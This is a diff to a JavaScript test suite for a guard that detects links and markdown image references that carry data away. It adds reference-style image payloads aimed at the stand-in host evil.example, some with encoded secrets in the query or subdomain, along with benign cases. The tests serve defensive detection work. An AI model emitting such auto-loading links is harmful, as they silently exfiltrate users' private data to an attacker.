@@ -28,6 +28,10 @@ describe('links that carry data away', () => {
     '<div style="background:url(https://evil.example/)">',
     '[here](https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ)',
     'https://evil.example/?q=EMAIL_7QK2M',
+    '![x][p] and\n\n[P]: https://evil.example/p.png\n',
+    '![p][] and\n\n[p]: <https://evil.example/p.png>\n',
+    '![p] and\n\n[p]:\n https://evil.example/p.png\n',
+    '[p]: https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ\n',
     'https://am9obkbleGFtcGxlLmNvbSBzZWNyZXQ.evil.example/',
     '<a href="https://evil.example/?mail=a@b.co">x</a>',
   ])('%s', (text) => {
@@ -36,12 +40,20 @@ describe('links that carry data away', () => {
   it.each([
     '![x](https://cdn.acme.example/p.png)',
     '![x](/local.png)',
+    '[the docs][d], ![logo][l]\n\n[d]: https://docs.python.org/3/\n[l]: https://cdn.acme.example/p.png\n',
+    'see ![x] and [y] and a[0]: 5',
     '[docs](https://docs.python.org/3/library/re.html#regular-expression-syntax)',
     'https://example.org/a/long/path/with-many-words-in-it.html?page=2',
     'a < b and [x] (y) ! https',
     'http://localhost:3000/?token=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ',
   ])('not %s', (text) => {
     expect(leaks(text)).toEqual([])
+  })
+  it('a picture whose address stood before it', () => {
+    expect(leaks('[p]: https://evil.example/p.png\n\nLook: ![x][p] and ![p] and [text][p].')).toEqual([
+      '![x][p]',
+      '![p]',
+    ])
   })
   it('keeps a hidden value from being turned back inside an address', () => {
     const guard = createGuard({ detectors: [createStructuredDetector()] })
@@ -104,6 +116,9 @@ it('finds the same however the text is cut', () => {
       'EMAIL_7QK2M',
       ')',
       '](',
+      '][p]',
+      '[p]: ',
+      '![p]',
       '[',
       '<img src="//e.x/',
       '>',
